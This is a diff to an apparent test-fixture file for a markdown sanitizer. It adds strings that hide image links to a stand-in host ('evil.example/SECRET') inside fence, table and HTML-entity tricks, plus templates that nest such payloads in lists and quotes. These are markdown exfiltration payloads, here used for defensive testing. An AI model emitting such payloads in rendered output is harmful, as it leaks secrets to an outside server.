@@ -51,6 +51,14 @@ CARRIERS = [
     "[x](https://docs.example.com/page?q=SECRET) [y](https://docs.example.com/page#SECRET)",
     "![x](https://github.com/x/y?z=1&q=SECRET) https://docs.example.com/?SECRET",
     ":octocat: :octo&#99;at: \\:octocat:",
+    "www.-x.evil.com/SECRET www.\\_x.evil.com www&period;-x.evil.com",
+    "[](//e)~~~\n```\n~~~\n![x](//evil.example/SECRET)\n```",
+    "~[](//e)~~\n```\n~~~\n![x](//evil.example/SECRET)\n```",
+    "&shy;~~~\n```\n~~~\n![x](//evil.example/SECRET)\n```",
+    "[](/ok)~~~\n```\n~~~\n![x](//evil.example/SECRET)\n```",
+    "a|b\n-|-[](//e)\n`x|![x](//evil.example/SECRET)`",
+    "a|b\n-|-&shy;\n`x|![x](//evil.example/SECRET)`",
+    "+&#32;~~~\n```\n~~~\n![x](//evil.example/SECRET)\n```",
 ]
 """Each makes some renderer fetch, run or link to something foreign when nothing guards it."""
 HIDINGS = [
@@ -59,6 +67,9 @@ HIDINGS = [
     "- {}",
     "> {}",
     "- > - {}",
+    "> - ```html\n>   {}\n>   ```",
+    "- * a\n    ```\n    {}\n    ```\n- * a\n\n    b",
+    "- > - a\n  >   ```\n  >   {}\n  >   ```\n  >   {}",
     "1. a\n\n   {}\n2. b",
     "# {}",
     "{}\n===",
